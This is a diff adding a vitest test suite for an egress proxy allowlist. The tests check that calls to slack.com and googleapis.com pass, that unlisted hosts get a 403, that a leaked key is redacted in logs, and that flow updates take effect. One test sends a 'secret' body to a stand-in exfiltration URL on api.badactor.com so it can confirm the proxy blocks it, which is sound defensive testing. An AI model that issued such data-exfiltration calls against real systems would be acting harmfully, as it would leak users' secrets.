@@ -1,0 +1,111 @@
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { startEgressHarness, toPlain } from "../testing/egress-harness";
+
+// The article's allowlist, fixed for the real Slack API (slack.com/api/*), plus a deny rule.
+const FLOWS = `
+AllowFilter:
+  processor: Filter
+  parameters:
+    - key: urls
+      value:
+        - slack.com/api/*
+        - "*.googleapis.com/*"
+GenerateResponseForbidden:
+  processor: GenerateResponse
+  parameters:
+    - key: status
+      value: 403
+    - key: body
+      value: "Forbidden Access"
+    - key: Content-Type
+      value: text/plain
+`;
+
+describe("egress proxy (real proxy, real TLS, local stand-in upstreams)", () => {
+  let harness: Awaited<ReturnType<typeof startEgressHarness>>;
+
+  beforeAll(async () => {
+    harness = await startEgressHarness({ flowsYaml: FLOWS });
+  });
+  afterAll(async () => {
+    await harness.close();
+  });
+
+  it("lets an allowed HTTPS call through with TLS inspection and verification on both sides", async () => {
+    const response = await harness.fetch("https://slack.com/api/chat.postMessage", {
+      method: "POST",
+      body: "{}",
+    });
+    expect(response.status).toBe(200);
+    expect(JSON.parse(response.text)).toMatchObject({
+      standIn: true,
+      scheme: "https",
+      path: "/api/chat.postMessage",
+    });
+    const event = harness.events.at(-1);
+    expect(event).toMatchObject({
+      type: "http_call",
+      server: "slack",
+      method: "POST",
+      host: "slack.com",
+      path: "/api/chat.postMessage",
+      status: 200,
+      decision: "allowed",
+      rule: "org:AllowFilter#0",
+      inspected: true,
+    });
+  });
+
+  it("answers a call to an unlisted host with the generated 403, without DNS or a connection", async () => {
+    const before = harness.upstream.requests.length;
+    const attempts = harness.dialer.attempts.length;
+    const response = await harness.fetch("https://api.badactor.com/steal_data", {
+      method: "POST",
+      body: "secret",
+    });
+    expect(response.status).toBe(403);
+    expect(response.text).toBe("Forbidden Access");
+    expect(response.headers["content-type"]).toBe("text/plain");
+    expect(harness.upstream.requests.length).toBe(before);
+    expect(harness.dialer.attempts.length).toBe(attempts);
+    expect(harness.events.at(-1)).toMatchObject({
+      host: "api.badactor.com",
+      decision: "blocked",
+      rule: "org:AllowFilter",
+      status: 403,
+    });
+  });
+
+  it("blocks the article's api.slack.com too: the real Slack API is slack.com/api", async () => {
+    expect((await harness.fetch("https://api.slack.com/methods")).status).toBe(403);
+  });
+
+  it("decides plain HTTP the same way", async () => {
+    expect(
+      (
+        await harness.fetch(
+          "http://maps.googleapis.com/maps/api/geocode/json?key=AIzaSecretKey123456789",
+        )
+      ).status,
+    ).toBe(200);
+    expect(harness.events.at(-1)).toMatchObject({
+      scheme: "http",
+      host: "maps.googleapis.com",
+      path: "/maps/api/geocode/json?key=[redacted]",
+      decision: "allowed",
+    });
+    expect((await harness.fetch("http://example.org/")).status).toBe(403);
+  });
+
+  it("applies new flows to the very next call", async () => {
+    expect((await harness.fetch("https://example.org/ok")).status).toBe(403);
+    harness.flows.apply(
+      2,
+      toPlain(
+        `${FLOWS}\nAllowMore:\n  processor: Filter\n  parameters:\n    - key: urls\n      value: [example.org/*]\n`,
+      ),
+      "gateway",
+    );
+    expect((await harness.fetch("https://example.org/ok")).status).toBe(200);
+  });
+});
